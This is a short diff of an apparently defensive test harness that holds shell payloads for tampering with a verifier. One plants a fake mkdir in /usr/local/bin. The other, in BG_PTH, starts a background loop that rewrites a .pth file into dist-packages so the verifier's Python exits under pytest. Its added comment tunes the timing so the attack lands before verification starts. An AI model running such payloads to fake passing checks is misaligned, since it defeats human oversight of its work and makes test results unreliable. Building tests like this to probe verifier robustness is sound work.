@@ -74,8 +74,12 @@ exit $rc
 TC_SH
 chmod 755 /usr/local/bin/mkdir && echo planted"""
 # a background job that keeps writing a .pth into dist-packages during verification
+# a background job rewrites the .pth every 50 ms from the end of the step for 30 s: the
+# verifier's Python loads it, and writes land while the verifier runs. (It used to start after
+# 1 s, to appear only once verification began; the verifier now starts within milliseconds of
+# the step and had imported site before the first copy, so the attack never ran.)
 BG_PTH = (f"printf '%s\\n' '{EXIT_IF_PYTEST}' > /root/.tc-late.pth && "
-          "nohup sh -c 'sleep 1; for i in $(seq 1 600); do cp /root/.tc-late.pth "
+          "nohup sh -c 'for i in $(seq 1 600); do cp /root/.tc-late.pth "
           "/usr/local/lib/python3.11/dist-packages/zz-late.pth; sleep 0.05; done' "
           ">/dev/null 2>&1 & echo started")
 
